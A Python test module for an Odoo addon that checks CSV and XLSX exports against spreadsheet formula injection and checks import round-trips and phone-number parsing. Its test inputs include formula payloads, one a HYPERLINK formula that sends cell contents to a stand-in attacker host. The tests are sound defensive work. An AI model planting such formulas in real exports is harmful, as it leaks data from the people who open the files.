"""Lists that are exported, opened in a spreadsheet, and imported again."""

import io
import json
import zipfile
from collections import Counter
from datetime import datetime

import openpyxl

from odoo.fields import Command
from odoo.http import Request
from odoo.tests import HttpCase, tagged

from odoo.addons.http_routing.tests.common import MockRequest
from odoo.addons.web.controllers.export import CSVExport, ExcelExport
from odoo.addons.web.controllers.pivot import TableExporter

from ..report.client_statistics_excel import workbook
from ..tools.names import clean
from ..tools.spreadsheet import quoted, unquoted
from .access_common import ADDON
from .statistics_common import StatisticsCommon

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Look")',
    "+86 138 0013 8000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "'=1+1",
    "''=1+1",
    "=",
)
# What is taken for something else than text, and what is just text.
TEXTS = (
    "{=1+1}",
    "http://evil.example/",
    "mailto:a@b.example",
    "internal:Sheet1!A1",
    "'quoted'",
    "'",
    "电梯停了",
    "Line one\n=line two",
    "0012",
)


class SpreadsheetCommon(StatisticsCommon, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.user_service.password = "service"
        cls.user_service.group_ids = [
            Command.link(cls.env.ref("base.group_allow_export").id)
        ]

    def setUp(self):
        super().setUp()
        self.authenticate("service", "service")

    def _export(self, kind, records, names, import_compat=True, groupby=()):
        """The file that the button Export gives."""
        data = {
            "model": records._name,
            "fields": [
                {
                    "name": name,
                    "label": records._fields[name].string,
                    "type": records._fields[name].type,
                }
                for name in names
            ],
            "ids": False if groupby else records.ids,
            "domain": [("id", "in", records.ids)],
            "groupby": groupby,
            "import_compat": import_compat,
            "context": {},
        }
        post = {"data": json.dumps(data), "csrf_token": Request.csrf_token(self)}
        answer = self.url_open(f"/web/export/{kind}", post)
        self.assertEqual(answer.status_code, 200, answer.text)
        return answer.content

    def _sheet(self, content):
        """The first sheet; nothing in it is a formula or a link."""
        with zipfile.ZipFile(io.BytesIO(content)) as file:
            for name in file.namelist():
                if name.startswith("xl/worksheets/"):
                    xml = file.read(name)
                    for element in (b"<f>", b"<f ", b"<hyperlink"):
                        self.assertNotIn(element, xml, name)
        return openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]

    def _assert_text(self, cell):
        """A text, which stays one when somebody edits the cell."""
        self.assertEqual(cell.data_type, "s", cell.value)
        if cell.value.startswith(tuple("=+-@\t\r")):
            self.assertTrue(cell.quotePrefix, cell.value)

    def _parts(self, content):
        """A workbook without the moment it was made at."""
        with zipfile.ZipFile(io.BytesIO(content)) as file:
            return {
                name: file.read(name)
                for name in file.namelist()
                if name != "docProps/core.xml"
            }


@tagged("post_install", "-at_install")
class TestSpreadsheets(SpreadsheetCommon):
    def _complaints(self, texts=(*FORMULAS, *TEXTS)):
        values = [{"contact_name": text, "content": text} for text in texts]
        complaints = self.env["client.complaint"].with_user(self.user_service)
        return complaints.create(
            [{**each, "partner_id": self.client.id} for each in values]
        )

    # ------------------------------------------------------------
    # WHAT IS WRITTEN
    # ------------------------------------------------------------

    def test_a_list_as_csv_holds_no_formula(self):
        content = self._export("csv", self._complaints(), ["contact_name", "content"])
        for line in content.decode().split("\r\n")[1:-1]:
            self.assertNotRegex(line, r'(^|,)"[=+\-@\t\r]')

    def test_a_list_as_workbook_holds_no_formula_and_no_link(self):
        complaints = self._complaints()
        names = ["contact_name", "content"]
        sheet = self._sheet(self._export("xlsx", complaints, names))
        written = list(sheet.iter_rows(min_row=2))
        self.assertEqual([row[1].value for row in written], [*FORMULAS, *TEXTS])
        for row in written:
            for cell in row:
                self._assert_text(cell)

    def test_a_grouped_list_as_workbook(self):
        complaints = self._complaints()
        sheet = self._sheet(
            self._export(
                "xlsx",
                complaints,
                ["content", "contact_name"],
                import_compat=False,
                groupby=["contact_name"],
            )
        )
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
        for cell in cells:
            self._assert_text(cell)
        values = {cell.value for cell in cells}
        groups = Counter(map(clean, (*FORMULAS, *TEXTS)))  # one line each
        for text in (*FORMULAS, *TEXTS):
            title = f"{clean(text)} ({groups[clean(text)]})"
            self.assertIn(text, values)
            self.assertIn(title, values, "the title of the group")

    def test_a_heading_is_no_formula_either(self):
        self.env["ir.model.fields"]._get(
            "client.complaint", "remedy"
        ).field_description = "=1+1"
        self.env.registry.clear_cache()
        complaints = self._complaints(["plain"])
        data = {
            "model": complaints._name,
            "fields": [{"name": "remedy", "label": "=1+1", "type": "text"}],
            "ids": complaints.ids,
            "domain": [],
            "import_compat": False,
            "context": {},
        }
        post = {"data": json.dumps(data), "csrf_token": Request.csrf_token(self)}
        sheet = self._sheet(self.url_open("/web/export/xlsx", post).content)
        self.assertEqual(sheet["A1"].value, "=1+1")
        self._assert_text(sheet["A1"])
        self.assertTrue(sheet["A1"].font.b)
        content = self.url_open("/web/export/csv", post).text
        self.assertTrue(content.startswith('"\'=1+1"'), content)

    def test_dates_and_numbers_stay_what_they_are(self):
        self.lifts.sequence = -5
        complaint = self._complaint(received_at=datetime(2026, 1, 2, 3, 4, 5))
        categories = self.lifts.with_user(self.user_service)
        sheet = self._sheet(self._export("xlsx", categories, ["sequence"]))
        self.assertEqual((sheet["A2"].value, sheet["A2"].data_type), (-5, "n"))
        self.assertFalse(sheet["A2"].quotePrefix)
        content = self._export("csv", categories, ["sequence"])
        self.assertEqual(content, b'"sequence"\r\n"-5"\r\n')
        sheet = self._sheet(self._export("xlsx", complaint, ["received_at"]))
        self.assertEqual(sheet["A2"].value, datetime(2026, 1, 2, 3, 4, 5))

    def test_the_workbook_of_the_monthly_statistics(self):
        form = self._form()
        form.write({"analysis": "=1+1", "measures": "http://evil.example/"})
        content = workbook(form)
        self._sheet(content)
        texts = openpyxl.load_workbook(io.BytesIO(content)).worksheets[2]
        cells = {cell.value: cell for cell in texts[2]}
        self._assert_text(cells["=1+1"])
        self._assert_text(cells["http://evil.example/"])

    # ------------------------------------------------------------
    # AND BACK
    # ------------------------------------------------------------

    def _import(self, records, content, file_type):
        """Import a file as somebody does who was sent it."""
        self.env.invalidate_all()
        job = records.env["base_import.import"].create(
            {
                "res_model": records._name,
                "file": content,
                "file_type": file_type,
                "file_name": "list",
            }
        )
        names = ["id", "contact_name", "content"]
        answer = job.execute_import(
            names, names, {"quoting": '"', "separator": ",", "has_headers": True}
        )
        self.assertFalse(answer["messages"])
        self.assertEqual(len(answer["ids"]), len(records))

    def test_exported_and_imported_again_a_list_is_unchanged(self):
        texts = [*FORMULAS, *TEXTS]
        for kind, file_type in (("csv", "text/csv"), ("xlsx", XLSX)):
            complaints = self._complaints()
            content = self._export(kind, complaints, ["id", "contact_name", "content"])
            self._put(complaints, contact_name="lost", content="lost")
            self._import(complaints, content, file_type)
            with self.subTest(kind):
                self.assertEqual(complaints.mapped("content"), texts)
                self.assertEqual(
                    complaints.mapped("contact_name"), list(map(clean, texts))
                )

    def test_a_carriage_return(self):
        """It passes a CSV; in a workbook, which knows none, it is a line feed."""
        complaint = self._complaints(["\r=1+1\r\nnext"])
        content = self._export("csv", complaint, ["id", "contact_name", "content"])
        self.assertIn(b"\"'\r=1+1", content)
        self._import(complaint, content, "text/csv")
        self.assertEqual(complaint.content, "\r=1+1\r\nnext")
        sheet = self._sheet(self._export("xlsx", complaint, ["content"]))
        self.assertEqual(sheet["A2"].value, "\n=1+1\nnext")

    def test_an_apostrophe_is_put_before_and_taken_off(self):
        for text in (*FORMULAS, *TEXTS, "", "'''", "'''-"):
            self.assertEqual(unquoted(quoted(text)), text)
        for value in (-5, -1.5, False, None, b"x"):
            self.assertEqual(quoted(value), value)

    def test_a_list_of_another_addon_is_imported_as_before(self):
        partners = self.env["res.partner"].with_user(self.user_admin)
        job = self.env["base_import.import"].create(
            {
                "res_model": partners._name,
                "file": b'"name","street"\n"Chen","\'=1+1"\n',
                "file_type": "text/csv",
            }
        )
        options = {"quoting": '"', "separator": ",", "has_headers": True}
        self.assertEqual(job._read_csv(options)[1][1], ["Chen", "'=1+1"])

    # ------------------------------------------------------------
    # OTHER ADDONS
    # ------------------------------------------------------------

    def test_a_list_of_another_addon_is_byte_for_byte_as_before(self):
        partners = self.env["res.partner"].create(
            [{"name": text.strip(), "street": text} for text in (*FORMULAS, *TEXTS)]
        )
        countries = self.env["res.country"].search([], limit=20)
        for records, names in (
            (partners, ["name", "street", "client_complaint_count"]),
            (countries, ["name", "code"]),
        ):
            records = records.with_user(self.user_service)
            rows = records.export_data(names)["datas"]
            fields = [{"name": n, "type": records._fields[n].type} for n in names]
            with self.subTest(records._name):
                self.assertEqual(
                    self._export("csv", records, names).decode(),
                    CSVExport.from_data(CSVExport(), fields, names, rows),
                )
                with MockRequest(records.env):
                    core = ExcelExport.from_data(ExcelExport(), fields, names, rows)
                self.assertEqual(
                    self._parts(self._export("xlsx", records, names)),
                    self._parts(core),
                )

    # ------------------------------------------------------------
    # PIVOT
    # ------------------------------------------------------------

    def _table(self, model):
        """What the web client sends of a pivot, grouped by what people typed."""
        texts = (*FORMULAS, *TEXTS)
        header = {"width": 1, "height": 1}
        return json.dumps(
            {
                "model": model,
                "title": "Complaints",
                "measure_count": 1,
                "origin_count": 1,
                "col_group_headers": [[{"title": t, **header} for t in texts]],
                "measure_headers": [{"title": t, "is_bold": False} for t in texts],
                "origin_measure_headers": [],
                "rows": [
                    {
                        "title": t,
                        "indent": 0,
                        "values": [{"value": -5, "is_bold": False}, {"value": t}],
                    }
                    for t in texts
                ],
            }
        )

    def _pivot(self, table, as_file):
        post = {"csrf_token": Request.csrf_token(self)}
        if as_file:
            files = {"data": ("data", table, "application/json")}
            answer = self.url_open("/web/pivot/export_xlsx", post, files=files)
        else:
            answer = self.url_open("/web/pivot/export_xlsx", {"data": table, **post})
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def test_a_pivot_of_ours_holds_no_formula_and_no_link(self):
        for as_file in (True, False):
            sheet = self._sheet(self._pivot(self._table("client.complaint"), as_file))
            column = [row[0].value for row in sheet.iter_rows(min_row=3)]
            for value, text in zip(column, (*FORMULAS, *TEXTS), strict=True):
                self.assertIn(value, (text, f"'{text}"))
            self.assertEqual(sheet["B3"].value, -5)

    def test_a_pivot_of_another_addon_is_as_before(self):
        table = self._table("res.partner")
        with MockRequest(self.env(user=self.user_service)) as request:
            request.make_response = lambda content, headers: content
            core = TableExporter.export_xlsx.original_endpoint(TableExporter(), table)
        for as_file in (True, False):
            ours = self._pivot(table, as_file)
            self.assertEqual(self._parts(ours), self._parts(core))


@tagged("post_install", "-at_install")
class TestPhoneImport(StatisticsCommon):
    """A spreadsheet made 1.38E+10 of 13800138000: that is no phone number."""

    def _phones(self):
        """Every field of ours for a phone number that can be imported."""
        for model in self.env.values():
            if model._original_module == ADDON and model._auto:
                for name, field in model._fields.items():
                    if "phone" in name and field.type == "char" and not field.related:
                        if name != "phone_key":  # made from the other
                            yield model, field

    def test_each_phone_number_of_ours(self):
        found = set()
        converter = self.env["ir.fields.converter"]
        for model, field in self._phones():
            found.add(f"{model._name}.{field.name}")
            convert = converter.to_field(model, field, savepoint=None)
            for text in ("1.38E10", "1.38E+10", " 1,38e+10", "8E9", "-1.38E+10"):
                with self.subTest(field, text=text):
                    with self.assertRaisesRegex(ValueError, "as text"):
                        convert(text)
            for text in ("+86 138 0013 8000", "13800138000", "021-5555 0100", ""):
                self.assertEqual(convert(text)[0], text)
        self.assertLessEqual(
            {
                "visitor.registration.phone",
                "visitor.site.announce_phone",
                "client.complaint.phone",
                "client.callback.phone",
                "client.visit.contact_phone",
            },
            found,
        )

    def test_the_importer_reads_what_to_do(self):
        visit = self._visit()
        people = visit.registration_ids
        names = ["name", "visit_id/.id", "phone"]
        rows = [
            ["Wang", str(visit.id), "1.38E10"],
            ["Li", str(visit.id), "13800138000"],
        ]
        answer = people.load(names, rows)
        self.assertFalse(answer["ids"])
        message = answer["messages"][0]
        self.assertEqual(message["rows"], {"from": 0, "to": 0})
        self.assertIn("“1.38E10” in “Phone”", message["message"])
        self.assertIn("Format the column as text", message["message"])
        self.assertTrue(people.load(names, rows[1:])["ids"])

    def test_anything_else_may_look_like_that(self):
        converter = self.env["ir.fields.converter"]
        for model, name in (("visitor.registration", "name"), ("res.partner", "phone")):
            field = self.env[model]._fields[name]
            convert = converter.to_field(self.env[model], field, savepoint=None)
            self.assertEqual(convert("1.38E10")[0], "1.38E10")
